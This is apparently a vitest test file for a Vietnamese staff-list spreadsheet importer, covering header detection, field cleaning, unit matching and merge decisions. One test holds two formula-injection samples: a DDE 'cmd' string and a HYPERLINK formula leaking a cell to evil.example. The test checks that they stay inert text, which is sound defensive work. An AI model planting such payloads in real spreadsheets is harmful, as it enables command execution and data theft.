import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { readSpreadsheet } from '@halong/platform/server';
import { beforeAll, describe, expect, it } from 'vitest';
import { columnMap, findHeader, type HeaderProposal } from './header.rules.ts';
import { type OrgUnitType, readOrgUnits, type UnitList } from './org-unit-row.rules.ts';
import { type ExistingPerson, type ImportPlan, planImport, type RowDecision } from './person-merge.rules.ts';
import { type AcceptedRow, type PersonList, readPeople } from './person-row.rules.ts';
import { matchUnit, unitIndex } from './unit-match.rules.ts';

/** The sample staff list, from the file to the decisions, against the answer known for every row. */

const samples = new URL('../../../../apps/e2e/samples/', import.meta.url);
const asOf = '2026-10-31';

type ExpectedRow = {
  row: number; status: 'VALID' | 'MERGED' | 'REJECTED'; reason?: string; mergedInto?: number; duplicateKind?: string;
  name: string | null; dob: string | null; dobPrecision: string | null; gender: string; ethnicity: string; pin: string | null;
  unit: string | null; unitMatch: string | null; position: string; rank: string; llct: string | null; qpan: string | null;
  party: boolean; email: string | null; phone: string | null; dirt: string[];
};

type Expected = {
  sheet: string; headerRows: number[]; firstDataRow: number; counts: Record<string, number>;
  rejectedByReason: Record<string, number>; mergedByKind: Record<string, number>; validByUnitMatch: Record<string, number>;
  homonymsThatMustStaySeparate: { pins: string[] }[]; formulaRows: { row: number; where: string }[];
  mergeGroups: { rows: [number, number]; pin: string; kind: string }[]; ignoredRows: { row: number; what: string }[]; rows: ExpectedRow[];
};

const expected = JSON.parse(readFileSync(new URL('people.expected.json', samples), 'utf8')) as Expected;
const expectedRow = new Map(expected.rows.map((row) => [row.row, row]));

let header: HeaderProposal;
let units: UnitList;
let list: PersonList;
let plan: ImportPlan;
let unitOf: (row: AcceptedRow) => ReturnType<typeof matchUnit>;

beforeAll(async () => {
  const [tree] = await readSpreadsheet(fileURLToPath(new URL('org-units.csv', samples)));
  units = readOrgUnits(tree?.rows ?? []);
  const index = unitIndex(units.units, asOf);
  unitOf = (row) => matchUnit(index, row.fields.unitText, row.heading === null ? null : matchUnit(index, row.heading).unitCode);
  const sheets = await readSpreadsheet(fileURLToPath(new URL('people.xlsx', samples)));
  const found = findHeader(sheets);
  if (!found) throw new Error('no header found');
  header = found;
  const below = sheets[header.sheet]?.rows.filter((row) => row.row > (header.headerRows.at(-1) ?? 0)) ?? [];
  list = readPeople(below, columnMap(header.columns), asOf);
  plan = planImport({ rows: list.people, unitOf, existing: new Map() });
});

const kept = (decision: RowDecision) => (decision.bucket === 'MERGED' || decision.bucket === 'REJECTED' ? [] : [decision]);
const tally = (values: string[]) => values.reduce<Record<string, number>>((sum, value) => ({ ...sum, [value]: (sum[value] ?? 0) + 1 }), {});

describe('the org tree', () => {
  it('has 135 units, parents first, nothing refused', () => {
    expect(units.problems).toEqual([]);
    expect(units.units).toHaveLength(135);
    const seen = new Set<string>();
    for (const { code, parentCode } of units.units) {
      if (parentCode) expect(seen).toContain(parentCode);
      seen.add(code);
    }
    const byType = tally(units.units.map(({ type }) => type)) as Record<OrgUnitType, number>;
    expect(byType).toMatchObject({ WARD: 30, COMMUNE: 22, SPECIAL_ZONE: 2, FORMER_DISTRICT: 13, FORMER_DEPARTMENT: 10 });
    expect(units.units.find(({ code }) => code === 'QN-SNV')).toMatchObject({ validFrom: '2025-03-01', predecessors: ['OLD-LDTBXH', 'OLD-SNV'] });
    expect(units.units.find(({ code }) => code === 'QN-HDND')?.name).toBe('Khối Hội đồng nhân dân, Ủy ban nhân dân tỉnh');
  });
});

describe('the head', () => {
  it('is found in the right sheet with all its columns but the hidden one', () => {
    expect(header).toMatchObject({ sheetName: expected.sheet, headerRows: expected.headerRows, firstDataRow: expected.firstDataRow, missing: [] });
    expect(columnMap(header.columns)).toEqual({
      ordinal: 1, name: 2, dob: 3, gender: 4, ethnicity: 5, pin: 7, unit: 8, position: 9, rank: 10, llct: 11, qpan: 12, party: 14, email: 15, phone: 16, note: 17,
    });
    expect(header.unmapped).toEqual([{ col: 13, header: 'Ngoại ngữ' }]);
  });
});

describe('rows', () => {
  it('that are no data are ignored, each for what it is', () => {
    const names = { columnNumbers: 'column numbers', unitHeading: 'unit heading', subtotal: 'subtotal', grandTotal: 'grand total', signature: 'signature block' };
    expect(list.ignored.map(({ row, kind }) => ({ row, what: names[kind] }))).toEqual(expected.ignoredRows);
    expect(list.people).toHaveLength(expected.counts['dataRows'] ?? 0);
  });

  it('are cleaned field by field', () => {
    for (const { row, fields } of list.people) {
      const { name, dob, dobPrecision, gender, ethnicity, pin, position, rank, llct, qpan, party, email, phone } = expectedRow.get(row) ?? ({} as ExpectedRow);
      const { searchName: _search, unitText: _unit, note: _note, dob: birth, ...rest } = fields;
      expect({ row, ...rest, dob: birth?.value ?? null, dobPrecision: birth?.precision ?? null }).toEqual({
        row, name, dob, dobPrecision, gender, ethnicity, pin, position, rank, llct, qpan, party, email, phone,
      });
    }
  });

  it('say what was cleaned', () => {
    const unitDirt = new Set(['VARIANT', 'OLD_UNIT_UNRESOLVED', 'OLD_UNIT_ONE_SUCCESSOR']);
    for (const { row, dirt, problems } of list.people) {
      if (problems.length > 0) continue;
      const wanted = expectedRow.get(row)?.dirt.filter((each) => !unitDirt.has(each)) ?? [];
      expect({ row, dirt: [...dirt].sort() }).toEqual({ row, dirt: wanted.sort() });
    }
    expect(list.people.flatMap(({ warnings }) => warnings.filter(({ warning }) => warning !== 'FORMULA_RESULT'))).toEqual([]);
  });

  it('keep formulas in notes as text and refuse one in a name', () => {
    const noteOf = (row: number) => list.people.find((each) => each.row === row)?.fields.note;
    expect(noteOf(276)).toBe("+cmd|' /C calc'!A0");
    expect(noteOf(998)).toBe('=HYPERLINK("http://evil.example/?leak="&G12,"Xem hồ sơ")');
    expect(list.people.find((each) => each.row === 1257)?.problems).toEqual([{ reason: 'FORMULA_IN_NAME', field: 'name', column: 2, value: 'Bấm vào đây' }]);
  });
});

describe('decisions', () => {
  it('agree row by row', () => {
    for (const decision of plan.decisions) {
      const { status, reason, unit, unitMatch, mergedInto, duplicateKind } = expectedRow.get(decision.row) ?? ({} as ExpectedRow);
      if (decision.bucket === 'REJECTED') {
        expect({ row: decision.row, status: 'REJECTED', reasons: decision.problems.map((problem) => problem.reason) }).toEqual({ row: decision.row, status, reasons: [reason] });
        continue;
      }
      const match = { row: decision.row, unit: decision.unit.unitCode, unitMatch: decision.unit.match };
      expect(match).toEqual({ row: decision.row, unit, unitMatch });
      if (decision.bucket === 'MERGED') expect({ status: 'MERGED', into: decision.into, kind: decision.kind }).toEqual({ status, into: mergedInto, kind: duplicateKind });
      else expect({ row: decision.row, status: 'VALID' }).toEqual({ row: decision.row, status });
    }
  });

  it('agree in number', () => {
    const valid = plan.decisions.flatMap(kept);
    const rejected = plan.decisions.flatMap((decision) => (decision.bucket === 'REJECTED' ? decision.problems.slice(0, 1) : []));
    const merged = plan.decisions.flatMap((decision) => (decision.bucket === 'MERGED' ? [decision] : []));
    expect(tally(valid.map(({ unit }) => unit.match))).toEqual(expected.validByUnitMatch);
    expect(tally(rejected.map(({ reason }) => reason))).toEqual(expected.rejectedByReason);
    expect(tally(merged.map(({ kind }) => kind))).toEqual(expected.mergedByKind);
    expect(merged.map(({ row, into, source, kind }) => ({ rows: [into, row], pin: source.fields.pin, kind }))).toEqual(
      expected.mergeGroups.map(({ rows, pin, kind }) => ({ rows, pin, kind })),
    );
    expect(plan.counts).toEqual({ ADDED: 1172, CHANGED: 0, UNCHANGED: 0, REVIEW: 15, MERGED: 14, REJECTED: 10 });
    expect(new Set(valid.map(({ person }) => person.pin)).size).toBe(expected.counts['distinctPeopleAfterImport']);
  });

  it('ask a person about 12 pending and 3 moved units, with the candidates', () => {
    const reviews = plan.decisions.flatMap((decision) => (decision.bucket === 'REVIEW' ? [decision] : []));
    expect(tally(reviews.flatMap(({ reasons }) => reasons.map(({ code }) => code)))).toEqual({ UNIT_PENDING: 12, UNIT_MOVED: 3 });
    expect(reviews.find(({ row }) => row === 338)?.reasons).toEqual([{ code: 'UNIT_MOVED', rows: [338, 856], candidates: [expectedRow.get(338)?.unit, 'QN-P-VANGDANH'] }]);
    for (const { effect, reasons } of reviews) {
      expect(effect).toBe('ADD');
      for (const reason of reasons) if (reason.code === 'UNIT_PENDING') expect(reason.candidates.length).toBeGreaterThan(1);
    }
  });

  it('keep people of the same name apart', () => {
    const pins = new Set(plan.decisions.flatMap(kept).map(({ person }) => person.pin));
    for (const pair of expected.homonymsThatMustStaySeparate) for (const pin of pair.pins) expect(pins).toContain(pin);
  });
});

describe('the same list again', () => {
  const stored = () => new Map(plan.decisions.flatMap(kept).map(({ person, unit }): [string, ExistingPerson] => [person.pin, { ...person, unitCode: unit.unitCode }]));

  it('changes nothing; only open questions come back', () => {
    const again = planImport({ rows: list.people, unitOf, existing: stored() });
    expect(again.counts).toEqual({ ADDED: 0, CHANGED: 0, UNCHANGED: 1172, REVIEW: 15, MERGED: 14, REJECTED: 10 });
    expect(again.decisions.flatMap((decision) => (decision.bucket === 'REVIEW' ? [decision.effect] : []))).toEqual(Array<string>(15).fill('NONE'));
  });

  it('finds exactly what an office changed', () => {
    const existing = stored();
    const [first, second] = [...existing.keys()];
    if (!first || !second) throw new Error('no people');
    existing.set(first, { ...(existing.get(first) as ExistingPerson), phone: '0950000000', unitCode: 'QN-BTC' });
    existing.delete(second);
    const again = planImport({ rows: list.people, unitOf, existing });
    expect(again.counts).toMatchObject({ ADDED: 1, CHANGED: 1, UNCHANGED: 1170 });
    expect(again.decisions.find(({ bucket }) => bucket === 'CHANGED')).toMatchObject({
      row: 9,
      changes: [{ field: 'phone', before: '0950000000', after: '0950963525' }, { field: 'unit', before: 'QN-BTC', after: 'QN-VPTU' }],
    });
  });
});

describe('the nomination lists', () => {
  it.each([
    ['01-phuong-ha-long', 8], ['02-phuong-mong-cai-1', 6], ['03-dac-khu-van-don', 5], ['04-xa-tien-yen', 5], ['05-phuong-uong-bi', 6], ['06-xa-dam-ha', 3],
  ])('%s has its head found by the same rules', async (file, listed) => {
    const sheets = await readSpreadsheet(fileURLToPath(new URL(`nominations/${file}.xlsx`, samples)));
    const found = findHeader(sheets, ['name', 'pin']);
    expect(found?.missing).toEqual([]);
    const below = sheets[found?.sheet ?? 0]?.rows.filter((row) => row.row > (found?.headerRows.at(-1) ?? 0)) ?? [];
    expect(readPeople(below, columnMap(found?.columns ?? []), '2026-09-18').people).toHaveLength(listed);
  });
});
